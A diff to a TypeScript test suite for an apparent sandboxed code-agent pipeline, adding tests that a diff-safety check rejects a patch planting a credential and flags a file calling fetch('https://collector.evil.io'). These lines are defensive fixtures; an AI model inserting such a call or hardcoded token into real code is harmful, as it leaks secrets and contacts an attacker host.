@@ -3,10 +3,12 @@ import { tmpdir } from 'node:os';
 import { join, resolve } from 'node:path';
 import { afterEach, beforeEach, describe, expect, it } from 'vitest';
 import type { ExportedEntry, Sandbox } from '../../../agents/workspace.ts';
+import { blastRadiusArtifactSchema } from '../../../main/domain/artifacts/blast-radius.ts';
 import { createApp, type App } from '../../../main/app.ts';
 import type { RunRow } from '../../../main/domain/views.ts';
 import { createEnvironmentKeyring } from '../../../main/secrets/keyring.ts';
 import { imageTag } from '../../../sandbox/image/digest.mjs';
+import { credentials } from '../../hostile/diff-safety/credentials.ts';
 import { makeRepository, snapshotFolder, type Files, type TestRepository } from '../../support/repository.ts';
 
 let home: string;
@@ -49,9 +51,7 @@ async function run(files: Files, decorateSandbox: (sandbox: Sandbox) => Sandbox 
 /** What an exported tree looks like when something in the container added one more entry. */
 function withExtra(entry: ExportedEntry): (sandbox: Sandbox) => Sandbox {
   return (sandbox) => ({
-    available: () => sandbox.available(),
-    selfTest: (signal) => sandbox.selfTest(signal),
-    reap: (keep) => sandbox.reap(keep),
+    ...sandbox,
     open: async (spec) => {
       const workspace = await sandbox.open(spec);
       if (!workspace.ok) return workspace;
@@ -63,6 +63,7 @@ function withExtra(entry: ExportedEntry): (sandbox: Sandbox) => Sandbox {
           inject: (tree, tar) => value.inject(tree, tar),
           write: (tree, written, removals) => value.write(tree, written, removals),
           exec: (request) => value.exec(request),
+          linkDependencies: (tree, key, folder) => value.linkDependencies(tree, key, folder),
           close: () => value.close(),
           sealAndExport: async (tree, limits) => {
             const entries = await value.sealAndExport(tree, limits);
@@ -89,12 +90,46 @@ describe('one rejected entry', () => {
   });
 });
 
+describe('what a patch holds and reaches', () => {
+  const written = (name: string, text: string): ExportedEntry => ({ name: Buffer.from(name), type: 'file', mode: 0o644, size: Buffer.byteLength(text), bytes: Buffer.from(text) });
+
+  it('is refused for a credential, whose text is in no fact and in no artifact but the patch itself', async () => {
+    const token = credentials['a GitLab token'] ?? '';
+    const ended = await run(blemished, withExtra(written('settings.ts', `export const token = '${token}';\n`)));
+    expect(ended).toMatchObject({ status: 'done', result: 'rejected' });
+    const page = await app.desk.run(ended.runId);
+    if (!page.ok) throw new Error(page.error.message);
+    expect(page.value.report?.policyInputs?.safety).toMatchObject([{ kind: 'secret', path: 'settings.ts', line: 1 }]);
+    expect(page.value.decision?.heldBy).toEqual(['diff-safety']);
+    expect(JSON.stringify(app.ledger.read.factsOf(ended.runId))).not.toContain(token);
+    const holding = app.ledger.read.artifacts(ended.runId).filter(({ sha256 }) => {
+      const bytes = app.ledger.artifacts.get(sha256);
+      return bytes.ok && Buffer.from(bytes.value).includes(token);
+    });
+    expect(holding.map(({ name }) => name)).toEqual(['changes.patch']);
+  });
+
+  it('is told to the person, with a picture of what is reached', async () => {
+    const ended = await run({ ...blemished, 'src/a.ts': 'export const a = 1;\n', 'src/b.ts': "import { a } from './a.ts';\n" }, withExtra(written('src/c.ts', "import './a.ts';\nfetch('https://collector.evil.io');\n")));
+    expect(ended).toMatchObject({ status: 'done', result: 'patch-ready' });
+    const artifacts = new Map(app.ledger.read.artifacts(ended.runId).map(({ name, sha256 }) => [name, app.ledger.artifacts.get(sha256)]));
+    const textOf = (name: string): string => {
+      const bytes = artifacts.get(name);
+      return bytes?.ok === true ? Buffer.from(bytes.value).toString('utf8') : '';
+    };
+    const radius = blastRadiusArtifactSchema.parse(JSON.parse(textOf('blast_radius.json')));
+    expect(radius.picture.nodes.map(({ path }) => path)).toEqual(['README.md', 'src/c.ts']);
+    expect(radius.graph).toMatchObject({ modules: 3, imports: 2, notRead: 0 });
+    expect(textOf('pull_request.md')).toContain('network-host src/c.ts:2 The host collector.evil.io is named here');
+    expect(app.ledger.read.decision(ended.runId)?.decision.heldBy).toContain('diff-safety');
+  });
+});
+
 describe('a sandbox that does not hold', () => {
   it('turns the loop off before anything of the repository enters a container', async () => {
     const injected: string[] = [];
     const leaky = (sandbox: Sandbox): Sandbox => ({
-      available: () => sandbox.available(),
-      reap: (keep) => sandbox.reap(keep),
+      ...sandbox,
       selfTest: async (signal) => {
         const report = await sandbox.selfTest(signal);
         return report.ok ? { ok: true, value: { ...report.value, probes: [...report.value.probes, { name: 'host unreachable', holds: false, detail: '10.0.0.1 answered' }] } } : report;
